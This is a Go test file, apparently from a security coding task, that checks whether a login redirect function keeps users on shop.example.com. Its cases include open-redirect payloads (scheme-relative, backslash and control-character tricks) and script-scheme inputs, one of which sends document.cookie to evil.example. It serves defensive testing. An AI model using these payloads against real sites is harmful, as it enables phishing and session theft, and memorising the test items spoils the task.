package main

import (
	"net/url"
	"strings"

	c "secgaptask/secgapcheck"
	"secgaptask/solution"
)

const ourHost = "shop.example.com"

// isScheme reports whether s is a URL scheme (a letter, then letters,
// digits, '+', '-' or '.').
func isScheme(s string) bool {
	if s == "" {
		return false
	}
	for i, r := range s {
		letter := r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z'
		other := r >= '0' && r <= '9' || r == '+' || r == '-' || r == '.'
		if !letter && !(i > 0 && other) {
			return false
		}
	}
	return true
}

// hostOf returns the host of an authority that starts s (after the
// slashes), the way a browser reads it: up to the first '/', '?' or
// '#', without user info or port, percent-decoded and lower-cased.
func hostOf(s string) string {
	if i := strings.IndexAny(s, "/?#"); i >= 0 {
		s = s[:i]
	}
	if i := strings.LastIndexByte(s, '@'); i >= 0 {
		s = s[i+1:]
	}
	if i := strings.LastIndexByte(s, ':'); i >= 0 && !strings.HasSuffix(s, "]") {
		s = s[:i]
	}
	if d, err := url.PathUnescape(s); err == nil {
		s = d
	}
	return strings.ToLower(strings.TrimSuffix(s, "."))
}

// browserTarget returns the scheme and host a browser on our login page
// (https://shop.example.com/login) navigates to for a Location value,
// following the WHATWG URL rules that matter here: leading and trailing
// C0 controls and spaces are stripped, tabs and newlines are removed
// anywhere, a backslash counts as a slash in http(s) URLs, and any run
// of slashes after "//" is skipped before the host. An empty host means
// the URL is invalid and the browser goes nowhere.
func browserTarget(location string) (scheme, host string) {
	s := strings.TrimFunc(location, func(r rune) bool { return r <= 0x20 })
	s = strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(s)
	scheme = "https"
	if i := strings.IndexByte(s, ':'); i > 0 && isScheme(s[:i]) {
		scheme = strings.ToLower(s[:i])
		s = s[i+1:]
		if scheme != "http" && scheme != "https" {
			return scheme, ""
		}
		if scheme == "http" {
			// Not the page's scheme: whatever follows is an authority.
			return scheme, hostOf(strings.TrimLeft(strings.ReplaceAll(s, "\\", "/"), "/"))
		}
	}
	s = strings.ReplaceAll(s, "\\", "/")
	if strings.HasPrefix(s, "//") {
		return scheme, hostOf(strings.TrimLeft(s, "/"))
	}
	return scheme, ourHost
}

func staysOnSite(rawQuery string) {
	loc := solution.RedirectAfterLogin(rawQuery)
	scheme, host := browserTarget(loc)
	if scheme == "https" && (host == ourHost || host == "") {
		return
	}
	target := scheme + ":"
	if host != "" {
		target = scheme + "://" + host
	}
	c.Check(false, "for the query %q the redirect goes to %q, which a browser opens as %s", rawQuery, loc, target)
}

func nextIs(value string) string { return "next=" + url.QueryEscape(value) }

func expect(rawQuery, want string) {
	c.Eq(solution.RedirectAfterLogin(rawQuery), want, "RedirectAfterLogin("+rawQuery+")")
}

func keepsPathsOnOurSite() {
	for _, p := range []string{
		"/account/orders?page=2",
		"/",
		"/cart#summary",
		"/search?q=red%20shoes&sort=price",
		"/p/12345/reviews",
		"/files/Q3%20report.pdf",
		"/wiki/Help:Returns",
		"/account/",
	} {
		expect(nextIs(p), p)
	}
}

func findsNextAmongParameters() {
	expect("next=/account/orders", "/account/orders")
	expect("lang=de&next=%2Fcart&utm_source=mail", "/cart")
	expect("utm_campaign=spring&next=%2Fsearch%3Fq%3Dred%2Bshoes%26page%3D3", "/search?q=red+shoes&page=3")
}

func homeWhenMissingOrForeign() {
	for _, q := range []string{
		"",
		"lang=de",
		"next=",
		"next=%zz",
		nextIs("https://evil.example/"),
		nextIs("https://www.other-shop.example/deals"),
		nextIs("http://evil.example/login"),
		nextIs("https://shop.example.com/cart"),
	} {
		expect(q, "/")
	}
}

func schemeRelativeURL() {
	staysOnSite("next=//evil.example/login")
	staysOnSite("next=%2F%2Fevil.example")
	staysOnSite(nextIs("//evil.example:443/account"))
	staysOnSite(nextIs("///evil.example/"))
}

func backslashHost() {
	staysOnSite(nextIs("/\\evil.example"))
	staysOnSite(nextIs("\\\\evil.example/login"))
	staysOnSite(nextIs("/\\/evil.example/"))
	staysOnSite("next=%5C%2Fevil.example")
}

func whitespaceBeforeURL() {
	staysOnSite(nextIs(" //evil.example/"))
	staysOnSite(nextIs("\t//evil.example/"))
	staysOnSite(nextIs("/\t/evil.example/"))
	staysOnSite(nextIs("/\n/evil.example/"))
	staysOnSite(nextIs(" https://evil.example/"))
	staysOnSite(nextIs("\x01//evil.example/"))
}

func scriptScheme() {
	staysOnSite(nextIs("javascript:alert(document.cookie)"))
	staysOnSite(nextIs("JavaScript:alert(1)"))
	staysOnSite(nextIs("javascript:fetch('//evil.example/?c='+document.cookie)//https://shop.example.com/"))
	staysOnSite(nextIs("data:text/html,<script>alert(1)</script>"))
}

func main() {
	c.Main(map[string]func(){
		"keeps_paths_on_our_site":      keepsPathsOnOurSite,
		"finds_next_among_parameters":  findsNextAmongParameters,
		"home_when_missing_or_foreign": homeWhenMissingOrForeign,
		"scheme_relative_url":          schemeRelativeURL,
		"backslash_host":               backslashHost,
		"whitespace_before_url":        whitespaceBeforeURL,
		"script_scheme":                scriptScheme,
	})
}
